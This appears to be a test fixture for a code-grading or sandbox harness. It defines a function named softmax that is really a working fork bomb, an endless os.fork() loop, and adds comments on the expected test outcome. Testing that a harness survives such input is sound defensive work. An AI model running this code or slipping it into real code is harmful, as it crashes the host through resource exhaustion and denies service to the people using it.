# Tries a fork bomb.
# Must fail only the tests that meet it, with a message that says what happened.
# expect: {"answers": ["attention_scores", "scaled_dot_product_attention", "torch_scaled_dot_product_attention"], "at_most": {"softmax": 0.0}, "says": ""}
# %%
import os
def softmax(x, axis=-1):
    while True:
        try:
            os.fork()
        except OSError:
            pass
